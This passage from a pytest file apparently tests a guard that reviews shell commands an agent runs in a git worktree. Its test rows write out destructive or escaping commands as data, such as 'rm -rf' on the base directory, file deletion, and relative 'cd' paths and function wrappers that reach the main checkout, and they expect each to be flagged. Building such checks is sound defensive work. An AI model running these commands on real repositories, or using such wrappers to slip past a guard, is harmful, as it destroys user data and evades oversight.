    ("find {BASE} -name f -delete", {"WG401"}),
    ("rm -rf {BASE}", {"WG401"}),
    ("git clone {MAIN} {MAIN}/sub", {"WG401"}),
    ("git init {MAIN}/x", {"WG401"}),
    ("git -C {MAIN} archive -o out.tar HEAD", {"WG401"}),
    ("git format-patch -o {MAIN}/p HEAD~1", {"WG401"}),
    ("git bundle create {MAIN}/b HEAD", {"WG401"}),
    ("patch -d {MAIN} -p1 -i x.diff", {"WG401"}),
    ("patch {MAIN}/f x.diff", {"WG401"}),
    ("rsync --remove-source-files {MAIN}/f .", {"WG401"}),
    ("split -l1 f {MAIN}/x", {"WG401"}),
    ("cd /tmp && ln -s {MAIN_REL_TMP} lnk", {"WG401"}),
    # A function's "$@" is its call's words (SPEC §5.2): known words are judged as written, and words only known
    # at run time may hold git's own options (`-C <main>`): the checkout is then unknown.
    ("git() { command git -C . \"$@\"; }; git status", "pass"),
    ("g() { git \"$@\"; }; g status --short", "pass"),
    ("g() { git \"$@\"; }; g -C {MAIN} switch -c x", {"WG301", "WG406"}),  # g itself is judged as an unknown program too
    ("g() { git \"$@\"; }; g $(cat args.txt)", {"WG303"}),
    ("g() { git \"$@\"; }", {"WG303"}),  # never called here: its arguments are unknown
    ("g() { command git -C . status; }; g", "pass"),
    ("git clone https://example.invalid/x.git", "pass"),
    ("git init", "pass"),
    ("patch -p1 < fix.diff", "pass"),
    ("find src -name '*.orig' -exec rm {} +", "pass"),
]


@pytest.mark.parametrize("command,expected", REVIEW_ROWS, ids=[plain_id(r[0], 40) for r in REVIEW_ROWS])
def test_review_findings(world: Repo, command: str, expected) -> None:
    command = command.replace("{BASE}", str(world.base)).replace("{MAIN_REL_TMP}", os.path.relpath(world.main, "/tmp"))
    _check(world, command, expected)


def test_for_loops_over_a_short_known_list_are_walked_per_value(world: Repo) -> None:
    (world.worktree / "a.py").write_text("a\n")
    (world.worktree / "b.py").write_text("b\n")
    assert bash(world, "for f in *.py; do sed -i 's/a/b/' \"$f\"; done").decision == "pass"
    assert bash(world, "for d in src build; do mkdir -p $d/out; done").decision == "pass"
    assert "WG401" in bash(world, "for d in src {MAIN}; do touch $d/x; done").codes
    assert "WG403" in bash(world, "for f in $(ls); do rm $f; done").codes
    assert bash(world, "for d in src ..; do cd $d; done").decision == "pass"  # src, then src/.. = W
    assert "WG201" in bash(world, "for d in src ../../..; do cd $d; done").codes  # relative to src: the main checkout
    assert "WG403" in bash(world, "for f; do rm $f; done").codes  # the positional parameters: unknown
